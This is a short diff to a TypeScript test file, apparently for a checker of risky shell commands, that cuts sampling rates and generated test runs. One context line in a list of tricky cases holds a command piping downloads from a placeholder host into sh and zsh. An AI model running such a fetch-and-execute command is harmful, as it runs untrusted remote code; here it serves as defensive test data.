@@ -49,13 +49,13 @@ const TRICKY = [
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
-/** Returns every tenth case (neighbouring cases are similar), or every thirtieth for the extended profile, which is slower. */
+/** Returns every twentieth case (neighbouring cases are similar), or every fortieth for the extended profile, which is slower. */
 const contractCases = (profile: Profile): string[] =>
-  contractTexts().filter((_, index) => index % (profile === "contract" ? 10 : 30) === 0);
+  contractTexts().filter((_, index) => index % (profile === "contract" ? 20 : 40) === 0);
 
 const generated = (): string[] =>
   fc
-    .sample(choices, { numRuns: 300, seed: 11 })
+    .sample(choices, { numRuns: 150, seed: 11 })
     .map(documentCase)
     .filter((marked) => marked !== null)
     .map(unmarked);
